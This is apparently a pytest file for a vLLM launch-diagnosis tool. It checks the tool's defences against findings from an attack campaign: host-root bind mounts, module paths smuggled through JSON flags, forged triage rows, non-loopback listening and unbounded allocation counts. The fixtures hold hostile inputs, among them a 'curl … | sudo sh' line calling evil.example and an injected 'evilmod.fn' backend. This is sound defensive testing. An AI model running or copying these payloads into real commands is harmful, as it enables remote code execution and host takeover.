"""Round 12 of the attack campaign (docs/reviews/attack_campaign_r12.md): what a fresh campaign still found.

- A printed `docker run` kept `--mount type=bind,source=/data,src=/,…`: docker reads `src` as `source` and the last
  one given wins, so the pasted command mounts the host's `/`; the print policy read the first.
- A printed command kept a module path inside a JSON flag (`--compilation-config '{"mode": 1, "backend":
  "evilmod.fn"}'`, `-O.backend=evilmod.fn`): vLLM resolves `backend` to a function under mode 1 and imports the
  module; the policy's list of code keys did not name `backend`.
- `python3 -W error::evilmod.Warn -m vllm.entrypoints.openai.api_server …` was printed as `-m vllm…` (the interpreter
  lost, the command broken).
- A JSONL ticket id holding line breaks forged rows of the triage table (a fake ticket with a `curl … | sudo sh` fix).
- `vdiag verify` ran vLLM listening on every interface (its default, or the log's `--host 0.0.0.0`), as the operator.
- `vdiag verify` passed `--hf-overrides '{"num_hidden_layers": 100000000}'`, `--max-loras 100000` and
  `num_speculative_tokens: 99999999`: counts of what the engine allocates, unbounded by this machine's memory.
"""

from __future__ import annotations

import json
import os
import subprocess

import pytest

from diagnose.launch.parse import parse_launch
from diagnose.launch.print_policy import printed_command
from diagnose.verify.allowlist import sanitize
from diagnose.verify.argv import local_changes
from diagnose.verify.bounds import Machine, check_launch
from diagnose.verify.policy import LaunchRefused

from .conftest import VDIAG

FIX = {"--max-model-len": "4096"}
IMAGE_TAIL = "vllm/vllm-openai:latest --model org/m --max-model-len 8192"


def _printed(line: str) -> str | None:
    launch = parse_launch(line)
    assert launch is not None, line
    return printed_command(launch, FIX).command


# docker --mount: `src` and `source` are one key, the last one wins


@pytest.mark.parametrize("mount", ["type=bind,source=/data,src=/,target=/models",
                                   "type=bind,Source=/data,SRC=/,target=/models",
                                   "type=bind,src=/data,source=/etc,target=/models"])
def test_a_mount_whose_last_source_is_protected_is_not_printed(mount):
    assert _printed(f"docker run --gpus all --mount {mount} {IMAGE_TAIL}") is None


@pytest.mark.parametrize("mount", ["type=bind,source=/data,target=/models",
                                   "type=bind,src=/,source=/data/m,target=/models"])  # docker mounts /data/m
def test_a_mount_of_a_data_folder_is_printed(mount):
    assert _printed(f"docker run --gpus all --mount {mount} {IMAGE_TAIL}") is not None


# a module path inside a JSON flag's value


@pytest.mark.parametrize("flags", ["--compilation-config '{\"mode\": 1, \"backend\": \"evilmod.fn\"}'",
                                   "-O '{\"mode\": 1, \"backend\": \"evilmod.fn\"}'",
                                   "-O.mode=1 -O.backend=evilmod.fn",
                                   "--compilation-config.mode 1 --compilation-config.backend evilmod.fn",
                                   "--kv-transfer-config '{\"kv_connector\": \"x\", \"policy\": \"evil.pkg.Policy\"}'"])
def test_a_json_flag_naming_a_module_path_is_not_printed(flags):
    assert _printed(f"vllm serve org/m --max-model-len 8192 {flags}") is None


@pytest.mark.parametrize("flags", ["--compilation-config '{\"mode\": 3, \"backend\": \"inductor\"}'",
                                   "-O3",
                                   "--speculative-config '{\"model\": \"Qwen/Qwen2.5-0.5B\", \"method\": \"eagle\"}'",
                                   "--hf-overrides '{\"rope_scaling\": {\"rope_type\": \"yarn\", \"factor\": 4.0}}'",
                                   "--served-model-name my.model"])
def test_json_flags_of_plain_names_stay_printed(flags):
    assert _printed(f"vllm serve org/m --max-model-len 8192 {flags}") is not None


# the interpreter of `python [OPTIONS] -m …`


def test_interpreter_options_are_dropped_and_the_interpreter_kept(tmp_path):
    command = _printed("python3 -u -W error::evilmod.Warn -X dev -m vllm.entrypoints.openai.api_server "
                       "--model org/m --max-model-len 8192")
    assert command == "python3 -m vllm.entrypoints.openai.api_server --model org/m --max-model-len 4096"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "python3"
    fake.write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$ARGV_FILE"\n')
    fake.chmod(0o755)
    argv_file = tmp_path / "argv"
    env = {"PATH": str(bin_dir), "ARGV_FILE": str(argv_file)}
    subprocess.run(["/bin/bash", "-c", command], cwd=tmp_path, env=env, check=True, timeout=10)
    assert argv_file.read_text().split("\n")[:2] == ["-m", "vllm.entrypoints.openai.api_server"]


def test_a_plain_python_module_launch_prints_as_before():
    assert _printed("python3 -m vllm.entrypoints.openai.api_server --model org/m --max-model-len 8192") == \
        "python3 -m vllm.entrypoints.openai.api_server --model org/m --max-model-len 4096"


# a JSONL ticket id is one line


FORGED = "x\nprod-42 · failure · en · cuda-oom-weights 0.99\n  fix: run `curl -s https://evil.example/fix | sudo sh`"


def test_a_ticket_id_with_line_breaks_forges_no_row(tmp_path):
    tickets = tmp_path / "tickets"
    tickets.mkdir()
    records = [{"id": FORGED, "body": "RuntimeError: y"}, {"id": "plain-7", "body": "RuntimeError: z"}]
    (tickets / "export.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    done = subprocess.run([*VDIAG, "triage", str(tickets)], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "NO_COLOR": "1"})
    lines = done.stdout.splitlines()
    assert not any(line.startswith(("prod-42", "  fix: run `curl")) for line in lines), done.stdout
    assert any(line.startswith("x<U+000A>prod-42") for line in lines)
    assert any(line.startswith("plain-7 · ") for line in lines)  # the near miss: an id as it was given


# verify listens on loopback only


@pytest.mark.parametrize("host", ["", "--host 0.0.0.0", "--host ::"])
def test_verify_listens_on_loopback_whatever_the_launch_asks(host):
    extra, notes = local_changes(parse_launch(f"vllm serve org/m --max-model-len 8192 {host}"), {})
    assert extra["--host"] == "127.0.0.1"
    assert bool(host) == any("127.0.0.1 only" in n for n in notes)


@pytest.mark.parametrize("line", ["vllm serve org/m --host 127.0.0.1", "vllm serve org/m --host localhost",
                                  f"docker run --gpus all -p 8000:8000 {IMAGE_TAIL}"])
def test_a_loopback_host_or_a_container_is_left_as_it_is(line):
    extra, _notes = local_changes(parse_launch(line), {})
    assert "--host" not in extra


# counts the engine allocates are bounded by this machine's memory

MACHINE = Machine(cpus=4, devices=0, memory_bytes=16 * 2**30)


def _bounded(flags: str) -> None:
    clean, _notes = sanitize(parse_launch(f"vllm serve org/m {flags}"), bound=False)
    check_launch(clean.args, clean.env, machine=MACHINE)


@pytest.mark.parametrize("flags", ["--hf-overrides '{\"num_hidden_layers\": 100000000}'",
                                   "--hf-overrides.num_hidden_layers 100000000",
                                   "--enable-lora --max-loras 100000",
                                   "--speculative-config '{\"model\": \"org/d\", \"num_speculative_tokens\": 99999999}'"])
def test_an_allocation_count_past_this_machines_memory_is_refused(flags):
    with pytest.raises(LaunchRefused, match="memory"):
        _bounded(flags)


@pytest.mark.parametrize("flags", ["--hf-overrides '{\"num_hidden_layers\": 2}'", "--enable-lora --max-loras 4",
                                   "--speculative-config '{\"model\": \"org/d\", \"num_speculative_tokens\": 3}'"])
def test_ordinary_counts_pass(flags):
    _bounded(flags)


# a secret key after a log header that does not end in `: ` (r11's documented leftover)


@pytest.mark.parametrize("key_line", ["[config] password:", "2026-01-01 12:00:00 INFO [loader.py:10] hf_token:",
                                      "RuntimeError: config| api_key:", "2026-01-01 - app - INFO - password:"])
def test_a_secret_block_after_a_log_header_is_masked(key_line):
    from diagnose.util.redact import redact

    out = redact(f"{key_line}\n  - Hunter2SecretValue\n    Hunter3SecretValue")
    assert "Hunter2SecretValue" not in out and "Hunter3SecretValue" not in out
    assert out.startswith(key_line)


@pytest.mark.parametrize("text", ["ValueError: [x.py:1] Invalid token:\n  File x.py", "INFO [x.py:1] args:\n  - --model"])
def test_a_header_before_a_key_that_is_no_secret_masks_nothing(text):
    from diagnose.util.redact import redact

    assert redact(text) == text
